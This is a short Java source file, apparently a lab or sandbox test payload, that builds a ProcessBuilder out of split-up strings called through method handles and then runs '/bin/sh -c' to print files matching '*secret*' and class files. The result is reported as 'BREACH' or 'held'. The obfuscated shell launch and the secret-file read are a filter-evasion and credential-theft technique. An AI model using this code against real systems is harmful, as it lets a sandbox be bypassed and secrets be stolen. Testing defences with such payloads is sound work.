package marshal.lab1;

import java.io.InputStream;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;

/** Starts a shell by method handles and names that are put together */
final class Attack {

    private Attack() {}

    static String run() throws Throwable {
        Class<?> builder = MethodHandles.lookup().findClass(String.join(".", "java", "lang", "Process" + "Builder"));
        Class<?> process = MethodHandles.lookup().findClass("java.lang.Process");
        var lookup = MethodHandles.publicLookup();
        Object shell = lookup.findConstructor(builder, MethodType.methodType(void.class, String[].class))
                .invoke(new String[] {"/bin/".concat("sh"), "-c", "cat @TREE@/.lab/*secret*; cat @CLASS@/*/*/*/*/*"});
        Object started = lookup.findVirtual(builder, "sta".concat("rt"), MethodType.methodType(process)).invoke(shell);
        var out = (InputStream) lookup.findVirtual(process, "getInput".concat("Stream"), MethodType.methodType(InputStream.class)).invoke(started);
        String said = new String(out.readAllBytes());
        return said.isEmpty() ? "held: nothing to read" : "BREACH: " + said;
    }
}
